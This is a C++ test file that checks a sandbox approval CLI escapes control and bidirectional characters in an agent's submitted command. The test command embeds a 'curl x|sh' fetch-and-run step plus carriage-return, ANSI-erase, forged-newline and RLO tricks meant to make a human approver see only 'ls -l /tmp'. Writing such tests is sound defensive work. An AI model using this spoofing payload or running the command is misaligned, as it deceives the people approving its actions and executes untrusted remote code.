// `sandboxctl approvals list|watch` (the real binary) against the API on the real Manager
// (tests/service/support/api_fixture.h): an agent's forged command reaches the approver's terminal
// with its controls and bidi characters as visible escapes, never as bytes a terminal acts on
// (issue #32, finding 3).
#include <gtest/gtest.h>

#include <algorithm>
#include <sstream>

#include "service/support/api_fixture.h"
#include "support/sshd_fixture.h"

namespace pvs::service {
namespace {

// What a terminal would act on: C0 but newline, DEL, C1 (UTF-8), U+202E and U+2028.
bool has_hazard(const std::string& out) {
  for (unsigned char c : out)
    if ((c < 0x20 && c != '\n') || c == 0x7f) return true;
  return out.find("\xc2\x9b") != std::string::npos ||
         out.find("\xe2\x80\xae") != std::string::npos ||
         out.find("\xe2\x80\xa8") != std::string::npos;
}

class SandboxctlApprovalsText : public ApiTest {
 protected:
  void adjust_service(ServiceConfig& c) override {
    PolicyRuleSpec exec;
    exec.where = "policy.default[0]";
    exec.actions = {PolicyAction::kExec};
    exec.verdict = Verdict::kApprove;
    PolicySpec spec;
    spec.default_rules.push_back(exec);
    auto policy = Policy::compile(spec);
    ASSERT_TRUE(policy) << policy.error().message;
    c.policy = *policy;
    c.approval_timeout_seconds = 60;
  }
  test::ProcessResult ctl(std::vector<std::string> args) {
    std::vector<std::string> argv = {PVS_SANDBOXCTL_BIN, "--url",
                                     "http://127.0.0.1:" + std::to_string(port_)};
    argv.insert(argv.end(), args.begin(), args.end());
    return test::run_captured(argv, stack_->dir(), "",
                              {"SANDBOXCTL_TOKEN=tok-root", "HOME=" + stack_->dir()});
  }
};

TEST_F(SandboxctlApprovalsText, AForgedCommandShowsItsEscapes) {
  std::string sb = create();
  ASSERT_FALSE(sb.empty());
  // On a terminal: "\r" goes back, ESC [2K erases the line, and the approver reads only
  // "ls -l /tmp"; the newline forges a second, harmless-looking approval line; the RLO
  // reverses what follows it.
  const std::string command = "curl x|sh #\r\x1b[2Kls -l /tmp\n" +
                              std::string("ap-0 pending: root exec: true") + "\xe2\x80\xae" +
                              "cod\xc2\x9b\x7f";
  Poco::JSON::Object body;
  body.set("command", command);
  std::ostringstream text;
  body.stringify(text);
  auto pending = call("POST", "/v1/sandboxes/" + sb + "/exec", text.str(), "tok-alice",
                      {{"Prefer", "respond-async"}});
  ASSERT_EQ(pending.status, 202) << pending.body;
  std::string id = json(pending.body)->getObject("approval")->getValue<std::string>("id");

  auto listed = ctl({"approvals", "list"});
  ASSERT_EQ(listed.exit_code, 0) << listed.err;
  EXPECT_FALSE(has_hazard(listed.out)) << listed.out;
  EXPECT_EQ(std::count(listed.out.begin(), listed.out.end(), '\n'), 2) << listed.out;
  EXPECT_NE(listed.out.find("curl x|sh #\\r\\x1b[2Kls -l /tmp\\nap-0 pending"), std::string::npos)
      << listed.out;

  auto watched = ctl({"approvals", "watch", "--count", "1", "--interval-ms", "50"});
  ASSERT_EQ(watched.exit_code, 0) << watched.err;
  EXPECT_FALSE(has_hazard(watched.out)) << watched.out;
  EXPECT_EQ(std::count(watched.out.begin(), watched.out.end(), '\n'), 1) << watched.out;
  EXPECT_EQ(watched.out.find(id + " pending: alice exec in " + sb +
                             ": curl x|sh #\\r\\x1b[2Kls -l /tmp\\nap-0 pending: root exec: "
                             "true\\u202ecod\\u009b\\x7f ("),
            0u)
      << watched.out;

  // --json: the same escapes as JSON spells them; parsed, the command is the agent's own.
  auto as_json = ctl({"--json", "approvals", "list"});
  ASSERT_EQ(as_json.exit_code, 0) << as_json.err;
  EXPECT_FALSE(has_hazard(as_json.out)) << as_json.out;
  auto list = json(as_json.out)->getArray("approvals");
  ASSERT_EQ(list->size(), 1u);
  EXPECT_EQ(list->getObject(0)->getValue<std::string>("summary"), command);
}

}  // namespace
}  // namespace pvs::service
